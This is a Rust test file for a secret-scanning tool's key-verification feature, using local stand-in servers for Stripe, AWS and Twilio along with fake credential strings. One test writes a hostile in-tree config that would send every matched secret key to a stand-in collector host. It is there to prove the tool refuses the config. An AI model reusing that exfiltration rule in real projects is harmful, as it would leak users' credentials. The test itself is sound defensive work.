//! `--verify` against local stand-ins for the providers (`LEAKHOUND_VERIFY_OVERRIDE`): every
//! answer state, the time bound, one request per distinct secret, nothing sent without
//! `--verify`, and no way for a scanned tree to choose where secrets go.

use crate::util::{fake, json, lh, Dir};
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// One request as the stand-in saw it.
#[derive(Debug, Clone)]
struct Seen {
    method: String,
    path: String,
    headers: Vec<(String, String)>,
    body: String,
}

impl Seen {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
}

/// What the stand-in answers: status, extra headers, body; `None` hangs.
type Reply = Option<(u16, Vec<(&'static str, String)>, String)>;

/// A local HTTP/1.1 server answering with `reply`, recording every request.
struct Server {
    port: u16,
    seen: Arc<Mutex<Vec<Seen>>>,
}

impl Server {
    fn start(reply: impl Fn(&Seen) -> Reply + Send + Sync + 'static) -> Server {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let log = seen.clone();
        let reply = Arc::new(reply);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let log = log.clone();
                let reply = reply.clone();
                std::thread::spawn(move || {
                    let mut r = BufReader::new(stream.try_clone().unwrap());
                    let mut first = String::new();
                    if r.read_line(&mut first).is_err() {
                        return;
                    }
                    let mut parts = first.split_whitespace();
                    let method = parts.next().unwrap_or("").to_string();
                    let path = parts.next().unwrap_or("").to_string();
                    let mut headers = Vec::new();
                    loop {
                        let mut line = String::new();
                        if r.read_line(&mut line).unwrap_or(0) == 0 || line.trim().is_empty() {
                            break;
                        }
                        if let Some((k, v)) = line.trim_end().split_once(':') {
                            headers.push((k.trim().to_string(), v.trim().to_string()));
                        }
                    }
                    let len = headers
                        .iter()
                        .find(|(k, _)| k.eq_ignore_ascii_case("content-length"))
                        .and_then(|(_, v)| v.parse::<usize>().ok())
                        .unwrap_or(0);
                    let mut body = vec![0; len];
                    r.read_exact(&mut body).ok();
                    let seen = Seen {
                        method,
                        path,
                        headers,
                        body: String::from_utf8_lossy(&body).into_owned(),
                    };
                    log.lock().unwrap().push(seen.clone());
                    match reply(&seen) {
                        None => std::thread::sleep(Duration::from_secs(30)),
                        Some((status, extra, body)) => {
                            let mut head = format!(
                                "HTTP/1.1 {status} X\r\ncontent-type: application/json\r\n\
                                 content-length: {}\r\nconnection: close\r\n",
                                body.len()
                            );
                            for (k, v) in extra {
                                head.push_str(&format!("{k}: {v}\r\n"));
                            }
                            head.push_str("\r\n");
                            stream.write_all(head.as_bytes()).ok();
                            stream.write_all(body.as_bytes()).ok();
                        }
                    }
                });
            }
        });
        Server { port, seen }
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }
}

/// The binary with providers' hosts mapped to local stand-ins (`host=URL,...`).
fn stand_ins(overrides: impl AsRef<std::ffi::OsStr>) -> assert_cmd::Command {
    let mut c = lh();
    c.env("LEAKHOUND_VERIFY_OVERRIDE", overrides);
    c
}

fn bearer(s: &Seen) -> String {
    s.header("authorization")
        .unwrap_or("")
        .trim_start_matches("Bearer ")
        .to_string()
}

/// Stripe keys: live, revoked, rate-limited for good, and one the stand-in fails on.
fn stripe_keys() -> [String; 4] {
    [
        fake::stripe(),
        fake::stripe2(),
        format!("sk_{}_Rz8Wq2Lm5Tn7Vb3Xc9Kp4Hd6", "live"),
        format!("sk_{}_Gy6Nf3Jw8Qs1Zt5Mr2Bv7Lc9", "live"),
    ]
}

fn stripe_server() -> Server {
    let [live, revoked, limited, broken] = stripe_keys();
    Server::start(move |s| {
        let key = bearer(s);
        assert_eq!(s.path, "/v1/balance");
        if key == live {
            Some((
                200,
                vec![],
                r#"{"object":"balance","livemode":true}"#.into(),
            ))
        } else if key == revoked {
            Some((
                401,
                vec![],
                r#"{"error":{"type":"invalid_request_error"}}"#.into(),
            ))
        } else if key == limited {
            Some((429, vec![("retry-after", "0".into())], "{}".into()))
        } else if key == broken {
            Some((503, vec![], "{}".into()))
        } else {
            Some((500, vec![], "{}".into()))
        }
    })
}

fn verification(findings: &[serde_json::Value], secret_prefix: &str) -> (String, String) {
    let f = findings
        .iter()
        .find(|f| f["secret"].as_str().unwrap().starts_with(secret_prefix))
        .unwrap_or_else(|| panic!("no finding for {secret_prefix}: {findings:?}"));
    (
        f["verification"].as_str().unwrap_or("").to_string(),
        f["verification_detail"].as_str().unwrap_or("").to_string(),
    )
}

#[test]
fn every_answer_state_and_one_request_per_secret() {
    let server = stripe_server();
    let keys = stripe_keys();
    let d = Dir::new();
    let env: String = keys
        .iter()
        .enumerate()
        .map(|(i, k)| format!("KEY_{i} = \"{k}\"\n"))
        .collect();
    d.write("a/app.env", &env).write("b/copy.env", &env);
    let out = stand_ins(format!("api.stripe.com={}", server.url()))
        .args(["scan", "--verify", "--show-secrets", "-f", "json"])
        .arg(d.path())
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let findings = json(&out.stdout);
    assert_eq!(findings.len(), 8);
    assert_eq!(verification(&findings, &keys[0]).0, "valid");
    assert_eq!(verification(&findings, &keys[1]).0, "invalid");
    let (state, detail) = verification(&findings, &keys[2]);
    assert_eq!(
        (state.as_str(), detail.contains("rate limited")),
        ("unknown", true)
    );
    let (state, detail) = verification(&findings, &keys[3]);
    assert_eq!((state.as_str(), detail.contains("503")), ("unknown", true));
    // Live keys first, both copies.
    assert!(findings[..2].iter().all(|f| f["verification"] == "valid"));
    // Each distinct key once; the rate-limited one with its retries.
    let seen = server.seen();
    let count = |k: &str| seen.iter().filter(|s| bearer(s) == k).count();
    assert_eq!(
        (count(&keys[0]), count(&keys[1]), count(&keys[3])),
        (1, 1, 1)
    );
    assert!(count(&keys[2]) > 1 && count(&keys[2]) <= 4);
    assert!(seen.iter().all(|s| s.method == "GET"));

    // --only-verified keeps the live ones; text marks them.
    let out = stand_ins(format!("api.stripe.com={}", server.url()))
        .args(["scan", "--verify", "--only-verified"])
        .arg(d.path())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(text.matches("LIVE").count(), 2, "{text}");
    assert!(!text.contains("verified invalid"), "{text}");
    assert!(!text.contains(&keys[0]), "the secret is masked: {text}");
}

#[test]
fn nothing_is_sent_without_verify() {
    let server = stripe_server();
    let d = Dir::new();
    d.write("app.env", format!("KEY = \"{}\"\n", fake::stripe()));
    let out = stand_ins(format!("api.stripe.com={}", server.url()))
        .args(["scan", "-f", "json"])
        .arg(d.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let findings = json(&out.stdout);
    assert!(findings[0].get("verification").is_none());
    std::thread::sleep(Duration::from_millis(200));
    assert!(server.seen().is_empty());
}

#[test]
fn a_hanging_provider_is_bounded_by_the_timeout() {
    let server = Server::start(|_| None);
    let d = Dir::new();
    d.write("app.env", format!("KEY = \"{}\"\n", fake::stripe()));
    let started = Instant::now();
    let out = stand_ins(format!("api.stripe.com={}", server.url()))
        .args(["scan", "--verify", "--verify-timeout", "1", "-f", "json"])
        .arg(d.path())
        .output()
        .unwrap();
    assert!(started.elapsed() < Duration::from_secs(10));
    let findings = json(&out.stdout);
    assert_eq!(
        findings[0]["verification"],
        "unknown",
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(findings[0]["verification_detail"], "timed out");
}

#[test]
fn a_scanned_tree_cannot_choose_where_secrets_go() {
    let server = stripe_server();
    let evil = stripe_server();
    let d = Dir::new();
    d.write("app.env", format!("KEY = \"{}\"\n", fake::stripe()));
    // A config in the tree with its own verifier: refused, nothing sent.
    d.write(
        ".leakhound.toml",
        "[[rules]]\nid = \"exfil\"\nregex = '''(sk_live_[A-Za-z0-9]+)'''\n\
         [rules.verify]\nurl = \"https://collector.example/{secret}\"\nvalid = [200]\n",
    );
    let out = stand_ins(format!(
        "api.stripe.com={},collector.example={}",
        server.url(),
        evil.url()
    ))
    .args(["scan", "--verify", "-f", "json"])
    .arg(d.path())
    .output()
    .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains(".leakhound.toml") && err.contains("[rules.verify]"),
        "{err}"
    );
    // The same file named with --config is still the tree's: refused too.
    d.write(
        "ci.toml",
        "[[rules]]\nid = \"exfil\"\nregex = '''(sk_live_[A-Za-z0-9]+)'''\n\
         [rules.verify]\nurl = \"https://collector.example/{secret}\"\nvalid = [200]\n",
    );
    std::fs::remove_file(d.join(".leakhound.toml")).unwrap();
    let out = stand_ins(format!("collector.example={}", evil.url()))
        .args(["scan", "--verify", "--config"])
        .arg(d.join("ci.toml"))
        .arg(d.path())
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    std::fs::remove_file(d.join("ci.toml")).unwrap();
    // A tree config that redefines the provider's rule: its matches are not verified.
    d.write(
        ".leakhound.toml",
        "[extend]\nuse_default = true\n[[rules]]\nid = \"stripe-secret-key\"\n\
         regex = '''(sk_live_[A-Za-z0-9]+)'''\nkeywords = [\"sk_live_\"]\n",
    );
    let out = stand_ins(format!("api.stripe.com={}", server.url()))
        .args(["scan", "--verify", "-f", "json"])
        .arg(d.path())
        .output()
        .unwrap();
    let findings = json(&out.stdout);
    assert_eq!(findings[0]["verification"], "unknown");
    std::thread::sleep(Duration::from_millis(200));
    assert!(server.seen().is_empty() && evil.seen().is_empty());
}

#[test]
fn overrides_only_reach_this_machine_and_the_hook_never_verifies() {
    let d = Dir::new();
    d.write("app.env", format!("KEY = \"{}\"\n", fake::stripe()));
    let out = stand_ins("api.stripe.com=http://192.0.2.1:80")
        .args(["scan", "--verify"])
        .arg(d.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("loopback"));
    d.git_init();
    d.git(&["add", "-A"]);
    let out = lh()
        .current_dir(d.path())
        .args(["scan", "--staged", "--verify"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--staged"));
}

#[test]
fn aws_keys_are_paired_and_signed_not_sent() {
    let id = fake::aws_key_id();
    let secret = format!("wJalrXUtnFEMI/K7MDENG/{}", "bPxRfiCYzQ8vL2nT4k");
    let server = Server::start(|s| {
        let auth = s.header("authorization").unwrap_or("");
        if s.method == "POST"
            && s.body.contains("Action=GetCallerIdentity")
            && auth.starts_with("AWS4-HMAC-SHA256 Credential=AKIA")
        {
            Some((
                200,
                vec![],
                "<GetCallerIdentityResponse><GetCallerIdentityResult>\
                 <Arn>arn:aws:iam::123456789012:user/deploy</Arn>\
                 </GetCallerIdentityResult></GetCallerIdentityResponse>"
                    .into(),
            ))
        } else {
            Some((403, vec![], "<Code>InvalidClientTokenId</Code>".into()))
        }
    });
    let d = Dir::new();
    d.write(
        "deploy.sh",
        format!("export AWS_ACCESS_KEY_ID={id}\nexport AWS_SECRET_ACCESS_KEY={secret}\n"),
    );
    let out = stand_ins(format!("sts.amazonaws.com={}", server.url()))
        // A proxy in the environment never carries a stand-in's traffic off the machine.
        .env("HTTPS_PROXY", "http://127.0.0.1:9")
        .env("HTTP_PROXY", "http://127.0.0.1:9")
        .env("ALL_PROXY", "http://127.0.0.1:9")
        .args(["scan", "--verify", "--show-secrets", "-f", "json"])
        .arg(d.path())
        .output()
        .unwrap();
    let findings = json(&out.stdout);
    let (state, detail) = verification(&findings, &id);
    assert_eq!(state, "valid", "{findings:?}");
    assert_eq!(detail, "arn:aws:iam::123456789012:user/deploy");
    // The secret key's finding shares the answer.
    assert_eq!(verification(&findings, &secret[..12]).0, "valid");
    let seen = server.seen();
    assert_eq!(seen.len(), 1);
    let all = format!("{:?}", seen[0]);
    assert!(
        !all.contains(&secret[..20]),
        "the secret key was sent: {all}"
    );
}

#[test]
fn a_config_named_on_the_command_line_may_verify_in_house_keys() {
    let server = Server::start(|s| {
        if s.header("x-api-key") == Some("inhouse_Zq8Lm3Vt6Rw9Kp2Xc5Nb") {
            Some((200, vec![], r#"{"owner":{"name":"billing-svc"}}"#.into()))
        } else {
            Some((401, vec![], "{}".into()))
        }
    });
    let cfg = Dir::new();
    cfg.write(
        "inhouse.toml",
        "[extend]\nuse_default = true\n[[rules]]\nid = \"inhouse-key\"\n\
         regex = '''(inhouse_[A-Za-z0-9]{20})'''\nkeywords = [\"inhouse_\"]\n\
         [rules.verify]\nurl = \"https://keys.corp.example/v1/whoami\"\n\
         headers = [\"X-Api-Key: {secret}\"]\nvalid = [200]\ninvalid = [401]\n\
         identity = \"owner.name\"\n",
    );
    let d = Dir::new();
    d.write("svc.yaml", "token: inhouse_Zq8Lm3Vt6Rw9Kp2Xc5Nb\n");
    let out = stand_ins(format!("keys.corp.example={}", server.url()))
        .args(["scan", "--verify", "-f", "sarif", "--config"])
        .arg(cfg.join("inhouse.toml"))
        .arg(d.path())
        .output()
        .unwrap();
    let sarif: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let result = &sarif["runs"][0]["results"][0];
    assert_eq!(result["level"], "error");
    assert_eq!(result["properties"]["verification"], "valid");
    assert_eq!(result["properties"]["verificationDetail"], "billing-svc");
}

#[test]
fn history_verifies_each_distinct_secret_once() {
    let server = stripe_server();
    let d = Dir::new();
    d.git_init();
    for i in 0..3 {
        d.write(
            "app.env",
            format!("KEY = \"{}\"\nN = {i}\n", fake::stripe()),
        );
        d.commit_all(&format!("c{i}"));
    }
    d.write("old.env", format!("OLD = \"{}\"\n", fake::stripe2()));
    d.commit_all("old key");
    let out = stand_ins(format!("api.stripe.com={}", server.url()))
        .args(["history", "--verify", "-f", "json"])
        .arg(d.path())
        .output()
        .unwrap();
    let findings = json(&out.stdout);
    assert_eq!(findings.len(), 2, "{findings:?}");
    assert_eq!(findings[0]["verification"], "valid");
    assert_eq!(findings[1]["verification"], "invalid");
    assert_eq!(server.seen().len(), 2);
}

#[test]
fn twilio_tokens_are_verified_with_the_account_sid_near_them() {
    let sid = format!("AC{}", "3f9b2d6e8a1c4f7b0d2e5a8c1f4b7d0e");
    let token = format!("{}{}", "9c1e5a7f3b2d8e6a", "4f0c2b9d7e1a3c5f");
    let (sid2, token2) = (sid.clone(), token.clone());
    let server = Server::start(move |s| {
        use base64::Engine as _;
        let want = base64::engine::general_purpose::STANDARD.encode(format!("{sid2}:{token2}"));
        if s.path == format!("/2010-04-01/Accounts/{sid2}.json")
            && s.header("authorization") == Some(&format!("Basic {want}"))
        {
            Some((
                200,
                vec![],
                r#"{"friendly_name":"prod sms","status":"active"}"#.into(),
            ))
        } else {
            Some((401, vec![], "{}".into()))
        }
    });
    let d = Dir::new();
    d.write(
        "settings.py",
        format!("TWILIO_ACCOUNT_SID = \"{sid}\"\nTWILIO_AUTH_TOKEN = \"{token}\"\n"),
    );
    let out = stand_ins(format!("api.twilio.com={}", server.url()))
        .args(["scan", "--verify", "-f", "json"])
        .arg(d.path())
        .output()
        .unwrap();
    let findings = json(&out.stdout);
    // The SID is not a secret and is not reported; it completed the token.
    assert_eq!(crate::util::rule_ids(&findings), ["twilio-auth-token"]);
    assert_eq!(findings[0]["verification"], "valid", "{findings:?}");
    assert_eq!(findings[0]["verification_detail"], "prod sms");
    // Without --verify the SID is not reported either.
    let out = lh()
        .args(["scan", "-f", "json"])
        .arg(d.path())
        .output()
        .unwrap();
    assert_eq!(
        crate::util::rule_ids(&json(&out.stdout)),
        ["twilio-auth-token"]
    );

    // In history, a token added under an account SID committed earlier is still paired.
    let h = Dir::new();
    h.git_init();
    h.write("settings.py", format!("TWILIO_ACCOUNT_SID = \"{sid}\"\n"));
    h.commit_all("account");
    h.write(
        "settings.py",
        format!("TWILIO_ACCOUNT_SID = \"{sid}\"\nTWILIO_AUTH_TOKEN = \"{token}\"\n"),
    );
    h.commit_all("token");
    let out = stand_ins(format!("api.twilio.com={}", server.url()))
        .args(["history", "--verify", "-f", "json"])
        .arg(h.path())
        .output()
        .unwrap();
    let findings = json(&out.stdout);
    assert_eq!(findings[0]["verification"], "valid", "{findings:?}");

    // A pair-only match hides no other rule's finding on the same value.
    let o = Dir::new();
    o.write("conf.py", format!("twilio_secret = \"{sid}\"\n"));
    let out = lh()
        .args(["scan", "-f", "json"])
        .arg(o.path())
        .output()
        .unwrap();
    assert!(
        !json(&out.stdout).is_empty(),
        "the generic rule still reports it"
    );
}
